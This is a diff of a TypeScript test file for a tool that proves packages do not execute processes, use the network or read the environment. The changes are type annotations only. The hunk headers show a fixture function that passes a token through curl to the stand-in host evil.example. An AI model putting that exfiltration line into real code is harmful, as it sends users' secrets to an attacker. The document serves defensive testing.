@@ -1,6 +1,6 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { PROVENANCES } from '../../model/provenance.ts';
-import { EDGE_TYPES, EDGE_TYPE_NAMES } from '../../model/edge-types.ts';
+import { EDGE_TYPES, EDGE_TYPE_NAMES, type EdgeType } from '../../model/edge-types.ts';
 import { NODE_KINDS } from '../../model/node-kinds.ts';
 import { saysNot } from '../../model/edge-words.ts';
 import type { Said } from '../../proofs/audit-report.ts';
@@ -289,7 +289,7 @@ export function send(token: string) { execSync('curl https://evil.example -d ' +
   beforeAll(async () => {
     code = await benchOf(CODE);
   });
-  const ask = (name: string, type = 'executes_process'): Promise<ToolOutput<'prove_absent'>> =>
+  const ask = (name: string, type: EdgeType = 'executes_process'): Promise<ToolOutput<'prove_absent'>> =>
     code.call('prove_absent', { repo: 'shop', package: name, type });
 
   it.each([
@@ -308,7 +308,7 @@ export function send(token: string) { execSync('curl https://evil.example -d ' +
     expect(verdict).toMatchObject({ valid: true, sentence: answer.sentence });
   });
 
-  it.each(['uses_network', 'uses_files', 'reads_env', 'runs_code', 'uses_native', 'consumes_endpoint'])(
+  it.each<EdgeType>(['uses_network', 'uses_files', 'reads_env', 'runs_code', 'uses_native', 'consumes_endpoint'])(
     'nor is %s proven of code in a language whose APIs are not known',
     async (type) => {
       expect((await ask('sh', type)).holds).toBe(false);
@@ -317,7 +317,7 @@ export function send(token: string) { execSync('curl https://evil.example -d ' +
   );
 
   it('is proven where code of known languages does not', async () => {
-    for (const type of ['executes_process', 'uses_network', 'runs_code', 'reads_env'])
+    for (const type of ['executes_process', 'uses_network', 'runs_code', 'reads_env'] as const)
       expect(await ask('none', type)).toMatchObject({
         holds: true,
         sentence: expect.stringContaining('anything, resolved or open') as string,
